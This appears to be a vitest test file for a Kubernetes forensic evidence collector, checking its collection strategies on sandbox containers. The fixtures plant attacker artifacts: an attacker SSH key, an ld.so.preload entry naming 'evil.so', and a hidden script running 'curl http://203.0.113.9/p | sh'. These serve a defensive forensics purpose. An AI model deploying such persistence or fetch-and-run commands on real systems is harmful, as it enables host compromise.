/**
 * Strategy selection on real sandbox containers: no tar (framed head/cat), shell builtins only,
 * no shell at all (API state only, needs an ephemeral container).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ArtifactCollector, type TargetReport } from '../../src/collect/index.js';
import { KubeClient } from '../../src/kube/index.js';
import type { SandboxEntry } from '../../src/testing/sandbox/index.js';
import { skipWithoutPeer } from '../support/peers.js';
import {
  addSandboxPod,
  bundleHas,
  bundleJson,
  bundleText,
  collectedFile,
  type Env,
  filesIndex,
  sandboxMissing,
  startEnv,
} from './support.js';

const skip = skipWithoutPeer('bwrap', sandboxMissing());

const AUTH_KEYS = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQPlanted attacker@evil\n';
const planted: Record<string, SandboxEntry> = {
  '/root/.ssh/authorized_keys': { content: AUTH_KEYS },
  '/etc/ld.so.preload': { content: '/lib/evil.so\n' },
  '/tmp/.hidden/payload.sh': { content: '#!/bin/sh\ncurl http://203.0.113.9/p | sh\n', executable: true },
  '/tmp/.hidden/blob.bin': { content: Buffer.from([0, 1, 2, 0xff, 0, 10, 13, 0]) },
};

describe.skipIf(skip)('collector strategies', () => {
  let env: Env;
  beforeAll(async () => {
    env = await startEnv({
      users: [
        {
          name: 'reader',
          rules: [
            {
              verbs: ['get', 'list'],
              resources: ['pods', 'pods/log', 'events', 'nodes', 'selfsubjectreviews'],
            },
          ],
        },
      ],
    });
  }, 60_000);
  afterAll(async () => {
    await env?.close();
  });

  async function acquire(options: Parameters<typeof addSandboxPod>[1]): Promise<TargetReport> {
    const t = await addSandboxPod(env, options, {
      command: options.preset === 'busybox' ? ['sleep', '86400'] : undefined,
    });
    const collector = new ArtifactCollector({ sink: env.sink, profiles: ['triage'] });
    const report = await collector.acquire({ kube: env.kube, ...t });
    return report.targets[0] as TargetReport;
  }

  it('a container without tar: framed head/cat streams, binary-safe', async () => {
    const tools: Record<string, SandboxEntry> = {};
    for (const t of ['cat', 'head', 'find', 'stat', 'readlink', 'date', 'wc'])
      tools[`/bin/${t}`] = { type: 'binary', binary: 'busybox' };
    const grow: Record<string, SandboxEntry> = {
      '/tmp/.hidden/a-growing.log': { type: 'growing', content: 'start\n', intervalMs: 5 },
    };
    const r = await acquire({ preset: 'shell-only', files: { ...tools, ...planted, ...grow } });
    expect(r.finalized).toBe(true);
    expect(r.strategy.content).toBe('framed');
    // a file growing while read keeps the length fixed up front: its frame and the next ones stay intact
    const g = filesIndex(r.location as string).find((x) => x.path === '/tmp/.hidden/a-growing.log');
    expect(g?.status).toBe('copied');
    expect(
      (await collectedFile(r.location as string, '/tmp/.hidden/a-growing.log'))?.subarray(0, 6).toString(),
    ).toBe('start\n');
    expect(r.strategy.notes.join(' ')).toContain('no working tar');
    const loc = r.location as string;
    expect((await collectedFile(loc, '/root/.ssh/authorized_keys'))?.toString()).toBe(AUTH_KEYS);
    expect(await collectedFile(loc, '/tmp/.hidden/blob.bin')).toEqual(
      Buffer.from([0, 1, 2, 0xff, 0, 10, 13, 0]),
    );
    expect((await collectedFile(loc, '/tmp/.hidden/payload.sh'))?.toString()).toContain('203.0.113.9');
    expect(bundleHas(loc, 'containers/app/proc/processes.json')).toBe(true);
  });

  it('a container with only a shell: builtins, degraded and said so', async () => {
    const r = await acquire({ preset: 'shell-only', files: planted });
    expect(r.finalized).toBe(true);
    expect(r.strategy.content).toBe('builtins');
    expect(r.strategy.degraded).toBe(true);
    expect(r.status).toBe('partial');
    expect(r.reasons.join('\n')).toMatch(/degraded: shell builtins only/);
    const loc = r.location as string;
    expect((await collectedFile(loc, '/root/.ssh/authorized_keys'))?.toString()).toBe(AUTH_KEYS);
    expect((await collectedFile(loc, '/etc/ld.so.preload'))?.toString()).toBe('/lib/evil.so\n');
    const row = filesIndex(loc).find((x) => x.path === '/tmp/.hidden/payload.sh');
    expect(row?.reason).toContain('text only');
    const probe = bundleJson<{ strategy: { notes: string[] } }>(loc, 'containers/app/probe.json');
    expect(probe.strategy.notes.join(' ')).toContain('NUL bytes');
    const custody = bundleJson<{ notes: string }>(loc, 'custody.json');
    expect(custody.notes).toContain('degraded');
    const procs = bundleJson<{ processes: { cmdline?: string }[] }>(
      loc,
      'containers/app/proc/processes.json',
    ).processes;
    expect(procs.length).toBeGreaterThan(0);
  });

  it('API-only profiles never exec, and are complete even without a shell', async () => {
    const t = await addSandboxPod(env, { preset: 'none' });
    const collector = new ArtifactCollector({ sink: env.sink, profiles: ['pod-state'] });
    const r = (await collector.acquire({ kube: env.kube, ...t })).targets[0] as TargetReport;
    expect(r.status, JSON.stringify(r.reasons)).toBe('complete');
    expect(r.needsEphemeralContainer).toBe(false);
    expect(bundleText(r.location as string, 'acquisition.log')).not.toContain('"event":"exec"');
  });

  it('exec forbidden by RBAC: API state only, says what to grant, no ephemeral container suggested', async () => {
    const t = await addSandboxPod(env, { preset: 'busybox' }, { command: ['sleep', '86400'] });
    const kube = new KubeClient({
      server: env.cluster.server,
      caData: env.cluster.caData,
      token: env.cluster.tokenFor('reader'),
    });
    const collector = new ArtifactCollector({ sink: env.sink, profiles: ['triage'] });
    const r = (await collector.acquire({ kube, ...t })).targets[0] as TargetReport;
    expect(r.finalized).toBe(true);
    expect(r.status).toBe('partial');
    expect(r.needsEphemeralContainer).toBe(false);
    expect(r.reasons.join('\n')).toContain('exec forbidden (grant create and get on pods/exec)');
    expect(
      bundleJson<{ metadata: { name: string } }>(r.location as string, 'pod/pod.json').metadata.name,
    ).toBe(t.pod);
    const custody = bundleJson<{ examiner: { kubernetesUser?: { username: string } } }>(
      r.location as string,
      'custody.json',
    );
    expect(custody.examiner.kubernetesUser?.username).toBe('reader');
  });

  it('a container with no shell: API state only and the reason', async () => {
    const r = await acquire({ preset: 'none', files: planted });
    expect(r.finalized).toBe(true);
    expect(r.strategy.content).toBe('none');
    expect(r.needsEphemeralContainer).toBe(true);
    expect(r.status).toBe('partial');
    expect(r.reasons.join('\n')).toContain('needs ephemeral container');
    const loc = r.location as string;
    expect(bundleJson<{ metadata: { name: string } }>(loc, 'pod/pod.json').metadata.name).toBe(r.target.pod);
    expect(bundleHas(loc, 'containers/app/files/index.json')).toBe(false);
    const log = bundleText(loc, 'acquisition.log');
    expect(log).toContain('"step":"probe"');
    const manifest = bundleJson<{ artifacts: { path: string; status: string; reason?: string }[] }>(
      loc,
      'manifest.json',
    );
    const skipped = manifest.artifacts.find((a) => a.path === 'containers/app/exec-profiles');
    expect(skipped?.status).toBe('skipped');
    expect(skipped?.reason).toContain('needs ephemeral container');
  });
});
